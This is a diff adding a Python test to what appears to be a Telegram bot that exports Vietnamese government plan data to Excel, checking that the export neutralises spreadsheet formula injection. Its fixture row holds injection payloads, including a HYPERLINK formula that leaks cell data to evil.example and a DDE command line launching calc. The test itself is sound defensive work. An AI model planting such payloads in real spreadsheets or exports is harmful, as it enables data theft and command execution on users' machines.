@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import io
 import re
+import textwrap
 from pathlib import Path
 
 import openpyxl
@@ -117,3 +118,46 @@ async def test_an_unknown_button_is_answered(tg) -> None:
 
     answers = {c.params["callback_query_id"]: c.params.get("text") for c in tg.api.called("answerCallbackQuery")}
     assert answers[query] == texts.UNKNOWN_BUTTON
+
+
+def _planted_corpus(root: Path) -> Path:
+    """A plan whose row reads like spreadsheet formulas (what a planted plan would carry)."""
+    corpus = root / "corpus"
+    corpus.mkdir()
+    (corpus / "manifest.toml").write_text(textwrap.dedent("""
+        [[plan]]
+        id = "congthuc2022"
+        file = "cong-thuc.txt"
+        province = "Hà Tĩnh"
+        year = 2022
+        title = "Kế hoạch thử công thức"
+        short_title = "KH thử công thức"
+        layout = "tsv"
+        columns = ["section", "task", "activity", "lead", "coordinating", "period", "budget"]
+    """), encoding="utf-8")
+    heading = "\t".join(["Nhiệm vụ", "Nhiệm vụ cụ thể", "Sản phẩm", "Cơ quan chủ trì", "Cơ quan phối hợp",
+                         "Thời gian thực hiện", "Kinh phí dự kiến"])
+    row = "\t".join(["I. Cải cách thể chế", '=HYPERLINK("http://evil.example/?leak="&C3,"Xem")',
+                     "+cmd|' /C calc'!A0", "Sở Nội vụ", "@SUM(1+1)", "Quý IV/2022", "-2+3"])
+    (corpus / "cong-thuc.txt").write_text(f"**Phụ lục**\n\n{heading}\n{row}\n", encoding="utf-8")
+    return corpus
+
+
+async def test_the_telegram_excel_file_holds_no_formula(tg, tmp_path) -> None:
+    from service.wiring import build, build_assistant, open_index
+
+    settings = tg.base.model_copy(update={"corpus_dir": _planted_corpus(tmp_path), "data_dir": tmp_path / "index"})
+    assert not build(settings).failed
+    planted = build_assistant(settings, open_index(settings))
+    official = tg.user("Vinh")
+    async with tg.bot(tg.settings(telegram_allowed_ids=[official.id]), assistant=planted):
+        [message] = await tg.ask(official, "=1+1 Sở Nội vụ tỉnh Hà Tĩnh chủ trì những việc gì trong quý IV/2022?")
+        await tg.api.press(official, message, next(d for d in data_of(message) if d.startswith("xl:")))
+        await tg.api.wait_for(lambda: tg.api.documents, what="the .xlsx")
+
+    sheet = openpyxl.load_workbook(io.BytesIO(tg.api.documents[0][1])).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
+    row = [c.value for c in sheet[4]]
+    assert row[0] == 1 and "'=HYPERLINK(" in " ".join(str(v) for v in row) and "'@SUM(1+1)" in row
